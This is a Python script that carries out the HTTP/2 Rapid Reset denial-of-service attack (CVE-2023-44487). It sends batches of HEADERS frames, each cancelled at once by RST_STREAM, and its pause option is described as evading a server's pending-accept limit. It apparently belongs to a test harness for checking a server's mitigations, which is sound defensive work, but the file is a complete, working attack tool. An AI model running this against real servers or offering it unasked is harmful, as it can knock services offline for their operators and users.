"""Rapid Reset (CVE-2023-44487): open a stream with a complete request and
cancel it at once with RST_STREAM, over and over, on one connection.

usage: h2_rapid_reset.py PORT STREAMS [--batch N] [--pause SECONDS] [--path P]

Sends STREAMS HEADERS+RST_STREAM pairs, BATCH pairs per write (one TLS
write, so they arrive together: the classic attack). With --pause, waits
that long between the HEADERS of each batch and its RST_STREAMs, so the
server has accepted the streams and started on them before they are
cancelled (the variant that the pending-accept limit alone does not see).
Requests go to PATH (default /rapid; e.g. /delay/5000 on the test
backend, so that they are still in flight when cancelled). Stops early
when the server sends GOAWAY or closes the connection. Prints a JSON report
with `streams_sent`.
"""

import argparse
import time

import h2.errors
import h2.exceptions

from h2_common import Attacker


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("streams", type=int)
    parser.add_argument("--batch", type=int, default=100)
    parser.add_argument("--pause", type=float, default=0.0)
    parser.add_argument("--path", default="/rapid")
    args = parser.parse_args()

    attacker = Attacker(args.port)
    attacker.poll(wait=1.0)  # the server's SETTINGS
    sent = 0
    started = time.monotonic()
    while sent < args.streams and not attacker.gone and attacker.goaway is None:
        batch = min(args.batch, args.streams - sent)
        ids = []
        try:
            for _ in range(batch):
                stream_id = attacker.conn.get_next_available_stream_id()
                attacker.conn.send_headers(
                    stream_id, attacker.request_headers(args.path), end_stream=True
                )
                ids.append(stream_id)
                if args.pause == 0:
                    attacker.conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
            if args.pause > 0:
                attacker.flush()
                time.sleep(args.pause)
                for stream_id in ids:
                    attacker.conn.reset_stream(stream_id, error_code=h2.errors.ErrorCodes.CANCEL)
        except h2.exceptions.ProtocolError:
            # The state machine saw GOAWAY or a closed stream: stop.
            break
        attacker.flush()
        sent += len(ids)
        attacker.poll()
    attacker.wait_closed(limit=20.0)
    attacker.report(streams_sent=sent, seconds=round(time.monotonic() - started, 3))


if __name__ == "__main__":
    main()
